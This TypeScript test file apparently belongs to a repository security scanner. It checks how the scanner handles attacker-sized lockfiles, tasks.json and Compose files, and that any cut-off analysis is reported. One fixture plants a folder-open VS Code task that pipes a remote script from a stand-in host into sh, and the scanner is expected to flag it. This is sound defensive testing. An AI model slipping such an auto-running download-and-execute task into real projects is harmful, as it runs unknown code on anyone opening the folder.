/**
 * Inputs whose size the attacker chooses: the work stays linear and nothing is spread into a
 * call's arguments (which overflows the stack past about 125,000 items). Generated here.
 */
import assert from 'node:assert/strict';
import { rmSync } from 'node:fs';
import { after, describe, it } from 'node:test';
import { findingsOf, scanFixture, tempRepo } from '../helpers/fixtures.ts';

const dirs: string[] = [];
after(() => {
  for (const d of dirs) rmSync(d, { recursive: true, force: true });
});

describe('attacker-sized inputs', () => {
  it('a package-lock.json of 140,000 packages is read once, whole, by every dependency rule', async () => {
    const packages: Record<string, unknown> = { '': { name: 'big', dependencies: { 'p-0': '1.0.0' } } };
    for (let i = 0; i < 140_000; i++) packages[`node_modules/p-${i}`] = { version: '1.0.0' };
    const dir = tempRepo({
      'package.json': JSON.stringify({ name: 'big', version: '1.0.0', dependencies: { 'p-0': '1.0.0' } }),
      'package-lock.json': JSON.stringify({ name: 'big', lockfileVersion: 3, packages }),
    });
    dirs.push(dir);
    const report = await scanFixture(dir);
    assert.equal(report.dependencies?.packages, 140_000);
    assert.deepEqual(
      report.errors.filter(e => /failed|stack|could not be built/i.test(e.message)),
      [],
    );
  });

  const pnpmLock = (n: number, extra = ''): string => {
    const parts = [
      `lockfileVersion: '9.0'\n\nimporters:\n\n  .:\n    dependencies:\n      p-0:\n        specifier: 1.0.0\n        version: 1.0.0\n${extra}\npackages:\n`,
    ];
    for (let i = 0; i < n; i++) parts.push(`\n  p-${i}@1.0.0:\n    resolution: {integrity: sha512-${'A'.repeat(86)}==}\n`);
    parts.push('\nsnapshots:\n');
    for (let i = 0; i < n; i++) parts.push(`\n  p-${i}@1.0.0:\n    dependencies:\n      p-${i + 1}: 1.0.0\n`);
    return parts.join('');
  };
  const pnpmRepo = (lock: string): string => {
    const dir = tempRepo({
      'package.json': JSON.stringify({ name: 'big', version: '1.0.0', dependencies: { 'p-0': '1.0.0' } }),
      'pnpm-lock.yaml': lock,
    });
    dirs.push(dir);
    return dir;
  };

  it(
    'a pnpm-lock.yaml of 100,000 packages is read in one linear pass (the full YAML reader took minutes)',
    { timeout: 60_000 },
    async () => {
      const report = await scanFixture(pnpmRepo(pnpmLock(100_000)));
      assert.equal(report.dependencies?.packages, 100_000);
      // The text rules read a file this size by its head and tail (a `too-large` entry); nothing else failed.
      assert.deepEqual(
        report.errors.filter(e => e.kind !== 'too-large'),
        [],
      );
    },
  );

  it('a large pnpm-lock.yaml that needs the full YAML grammar is refused as one high gap on install; a small one is still read', async () => {
    const anchored = (n: number): string => pnpmLock(n, '    devDependencies: &dev {}\n    optionalDependencies: *dev\n');
    const big = await scanFixture(pnpmRepo(anchored(30_000)));
    assert.equal(big.dependencies?.packages, 0);
    assert.deepEqual(
      big.errors.map(e => [e.file, e.kind, e.message.replace(/^[a-z-]+\/[a-z-]+: /, '').replace(/\d+ characters/, 'N characters')]),
      [
        [
          'pnpm-lock.yaml',
          'too-large',
          'a lockfile of N characters in YAML that pnpm never writes (anchors, tags, block or multi-line scalars, tabs) is not read: the full YAML reader takes 4194304 at most; its dependencies were not checked',
        ],
      ],
    );
    assert.deepEqual(
      big.findings.filter(f => f.ruleId === 'scan/incomplete-analysis').map(f => [f.severity, f.location.file, f.triggers]),
      [['high', 'pnpm-lock.yaml', ['install']]],
    );
    assert.equal(big.verdict, 'review');
    const small = await scanFixture(pnpmRepo(anchored(50)));
    assert.equal(small.dependencies?.packages, 50);
    assert.deepEqual(small.errors, []);
  });

  const tasksRepo = (n: number): string => {
    const tasks = Array.from({ length: n }, (_, i) => ({ label: `t${i}`, type: 'shell', command: `node scripts/build.js --part ${i}` }));
    tasks.push({
      label: 'setup',
      type: 'shell',
      command: 'curl -s https://setup.example.invalid/i.sh | sh',
      runOptions: { runOn: 'folderOpen' },
    } as (typeof tasks)[number]);
    const dir = tempRepo({
      'package.json': JSON.stringify({ name: 'tasks', version: '1.0.0' }),
      'scripts/build.js': 'module.exports = 1;\n',
      '.vscode/tasks.json': JSON.stringify({ version: '2.0.0', tasks }, null, 1),
    });
    dirs.push(dir);
    return dir;
  };

  it('a tasks.json with more tasks than are analysed one by one is critical: the cut is reported, never silent', async () => {
    const report = await scanFixture(tasksRepo(10_500));
    assert.deepEqual(
      findingsOf(report, 'scan/incomplete-analysis').map(f => [f.location.file, f.severity]),
      [['.vscode/tasks.json', 'critical']],
    );
    assert.equal(report.verdict, 'block');
    assert.deepEqual(
      report.errors.filter(e => e.kind !== undefined).map(e => [e.file, e.kind, e.message]),
      [['.vscode/tasks.json', 'too-large', 'autorun/vscode-folder-open-task: 10501 tasks; only the first 10000 were analysed one by one']],
    );
    assert.ok(report.executionMap.length <= 10_000);
  });

  it('a tasks.json of 9,999 tasks and a folder-open task is analysed whole: the download is found, no gap', async () => {
    const report = await scanFixture(tasksRepo(9_999));
    assert.deepEqual(findingsOf(report, 'scan/incomplete-analysis'), []);
    assert.deepEqual(
      findingsOf(report, 'autorun/vscode-task-remote-shell', 'critical').map(f => f.location.file),
      ['.vscode/tasks.json'],
    );
  });

  const composeRepo = (n: number): string => {
    const services = Array.from(
      { length: n },
      (_, i) => `  s${i}:\n    image: example/app:${i}\n    command: ["node", "server.js", "--port", "${i}"]\n`,
    );
    const dir = tempRepo({ 'docker-compose.yml': `services:\n${services.join('')}` });
    dirs.push(dir);
    return dir;
  };

  it('a Compose file past 1,000 services has the first 1,000 analysed and the cut reported as a high gap', async () => {
    const report = await scanFixture(composeRepo(1_200));
    assert.deepEqual(
      findingsOf(report, 'scan/incomplete-analysis').map(f => [f.location.file, f.severity]),
      [['docker-compose.yml', 'high']],
    );
    assert.deepEqual(
      report.errors.filter(e => e.kind !== undefined).map(e => [e.file, e.kind, e.message]),
      [['docker-compose.yml', 'too-large', 'autorun/docker-compose: 1200 services; only the first 1000 were analysed one by one']],
    );
  });

  it('a Compose file of 1,000 services is analysed whole, with no gap', async () => {
    const report = await scanFixture(composeRepo(1_000));
    assert.deepEqual(findingsOf(report, 'scan/incomplete-analysis'), []);
    assert.deepEqual(
      report.errors.filter(e => e.kind !== undefined),
      [],
    );
  });
});
